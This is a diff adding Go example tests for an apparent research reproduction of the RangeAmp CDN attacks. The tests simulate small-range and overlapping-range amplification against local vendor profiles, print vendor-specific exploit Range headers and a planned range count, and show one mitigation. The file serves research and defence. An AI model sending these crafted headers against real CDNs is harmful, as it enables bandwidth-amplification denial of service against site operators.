@@ -1,0 +1,112 @@
+package rangeamp_test
+
+import (
+	"fmt"
+
+	rangeamp "repro"
+)
+
+// Example runs the paper's headline SBR attack: one crafted
+// "Range: bytes=0-0" request against a Cloudflare-profiled edge makes
+// the origin ship the whole 10 MB resource while the attacker receives
+// a single byte.
+func Example() {
+	store := rangeamp.NewStore()
+	store.AddSynthetic("/video.bin", 10<<20, "application/octet-stream")
+
+	topo, err := rangeamp.NewSBRTopology(rangeamp.Cloudflare(), store,
+		rangeamp.SBROptions{OriginRangeSupport: true})
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	defer topo.Close()
+
+	result, err := rangeamp.RunSBR(topo, "/video.bin", 10<<20, "example")
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	fmt.Printf("client body: %d byte\n", len(result.Responses[0].Body))
+	fmt.Printf("origin shipped at least the full resource: %v\n",
+		result.Amplification.VictimBytes >= 10<<20)
+	fmt.Printf("amplification factor above 10000x: %v\n",
+		result.Amplification.Factor() > 10000)
+	// Output:
+	// client body: 1 byte
+	// origin shipped at least the full resource: true
+	// amplification factor above 10000x: true
+}
+
+// ExampleRunOBR cascades two CDNs and sends one multi-range request
+// with 100 overlapping ranges over a 1 KB resource; the back-end CDN
+// ships ~100 copies across the inter-CDN link.
+func ExampleRunOBR() {
+	store := rangeamp.NewStore()
+	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
+
+	topo, err := rangeamp.NewOBRTopology(rangeamp.Cloudflare(), rangeamp.Akamai(), store)
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	defer topo.Close()
+
+	result, err := rangeamp.RunOBR(topo, "/1KB.bin", 100)
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	fmt.Printf("reply parts: %d\n", result.Parts)
+	fmt.Printf("inter-CDN traffic at least 100 copies: %v\n",
+		result.Amplification.VictimBytes >= 100*1024)
+	// Output:
+	// reply parts: 100
+	// inter-CDN traffic at least 100 copies: true
+}
+
+// ExamplePlanMaxN derives the largest usable number of overlapping
+// ranges from the cascaded vendors' header limits, the way §V-C does.
+func ExamplePlanMaxN() {
+	cdn77, _ := rangeamp.VendorByName("cdn77")
+	akamai, _ := rangeamp.VendorByName("akamai")
+	plan := rangeamp.PlanMaxN(cdn77, akamai, "/1KB.bin")
+	fmt.Printf("lead token %q, n = %d\n", plan.FirstToken, plan.N)
+	// Output:
+	// lead token "-1024", n = 5455
+}
+
+// ExampleSBRExploit shows the Table IV exploited Range cases, which
+// depend on the vendor and (for Azure and Huawei) the resource size.
+func ExampleSBRExploit() {
+	fmt.Println(rangeamp.SBRExploit("akamai", 25<<20).RangeHeader)
+	fmt.Println(rangeamp.SBRExploit("azure", 25<<20).RangeHeader)
+	fmt.Println(rangeamp.SBRExploit("cloudfront", 25<<20).RangeHeader)
+	fmt.Println(rangeamp.SBRExploit("keycdn", 25<<20).Repeat)
+	// Output:
+	// bytes=0-0
+	// bytes=8388608-8388608
+	// bytes=0-0,9437184-9437184
+	// 2
+}
+
+// ExampleMitigateLaziness shows a §VI-C fix collapsing the SBR factor.
+func ExampleMitigateLaziness() {
+	store := rangeamp.NewStore()
+	store.AddSynthetic("/f.bin", 1<<20, "application/octet-stream")
+	topo, err := rangeamp.NewSBRTopology(rangeamp.MitigateLaziness(rangeamp.Cloudflare()),
+		store, rangeamp.SBROptions{OriginRangeSupport: true})
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	defer topo.Close()
+	result, err := rangeamp.RunSBR(topo, "/f.bin", 1<<20, "lazy")
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	fmt.Printf("factor below 2x: %v\n", result.Amplification.Factor() < 2)
+	// Output:
+	// factor below 2x: true
+}
